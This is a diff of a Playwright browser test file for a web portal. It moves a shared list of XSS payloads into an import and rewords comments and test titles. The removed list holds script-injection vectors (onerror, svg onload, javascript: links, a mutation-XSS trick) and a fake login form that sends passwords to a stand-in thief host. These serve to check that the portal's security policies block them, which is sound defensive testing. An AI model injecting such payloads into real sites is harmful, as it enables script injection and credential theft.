@@ -1,9 +1,10 @@
+import { ATTACK } from '@friends/tools/testing/browser/attack';
 import { beLoggedIn, GENIUS, main, settled, title } from '@friends/tools/testing/browser/portal';
 import { expect, type Page, test } from '@playwright/test';
 import { fileWith, operateJson } from '../support/operator.ts';
 import { MEMBER_PAGES, VISITOR_PAGES } from '../support/routes.ts';
 
-/** Collects what the browser's policies refuse: content, scripts, and strings where Trusted Types are due. */
+/** Collects what the browser's policies refuse: content, scripts, and strings where Trusted Types are needed. */
 async function watchPolicies(page: Page): Promise<string[]> {
   const refused: string[] = [];
   await page.exposeFunction('tellRefusal', (what: string) => refused.push(what));
@@ -70,19 +71,6 @@ test('released files are kept for a year, the registry is asked for each time', 
   expect((await request.get(entry.replace('remoteEntry', 'nothing'))).status()).toBe(404);
 });
 
-/** What somebody with access to the content, but not to the portal, might try. */
-const ATTACK = [
-  '<p>A quiet weekend by the sea.</p>',
-  '<script>window.hacked = "script"</script>',
-  '<img src="/no-such.png" onerror="window.hacked = \'onerror\'">',
-  '<svg onload="window.hacked = \'svg\'"><script>window.hacked = "svg script"</script></svg>',
-  '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>',
-  '<a href="javascript:window.hacked = \'link\'">Read on</a>',
-  '<form action="https://thief.example/"><input name="password"><button>Log in again</button></form>',
-  '<style>body { display: none }</style>',
-  '<math><mi><style><img src=x onerror="window.hacked = \'mutation\'"></style></mi></math>',
-].join('');
-
 test('a script in an editor’s page never runs, and its text is still there', async ({ page }) => {
   const slug = `attack-${Date.now()}`;
   const item = {
@@ -91,7 +79,7 @@ test('a script in an editor’s page never runs, and its text is still there', a
     TitleEn: 'A quiet weekend',
     Image: null,
     Custom: false,
-    // Anybody may open it by its address; it is in the carousel of nobody here.
+    // Its address opens it for anybody; no country's carousel here shows it.
     Country: 'VN',
     Active: true,
     Published: true,
@@ -130,7 +118,7 @@ test('an attack in the address is a path like any other', async ({ page, baseURL
   expect(refused).toEqual([]);
 });
 
-test('a page can only be read; whatever else is tried is refused by a problem with the same headers', async ({
+test('a page can only be read; every other method is refused by a problem with the same headers', async ({
   request,
 }) => {
   for (const method of ['POST', 'DELETE']) {
@@ -141,7 +129,7 @@ test('a page can only be read; whatever else is tried is refused by a problem wi
   }
 });
 
-test('the outbox, whose mails hold links that change a password, is not there for whoever comes by a proxy', async ({
+test('the outbox, with its links that change a password, does not exist for visitors behind a proxy', async ({
   request,
 }) => {
   expect((await request.get('/api/outbox')).status()).toBe(200);
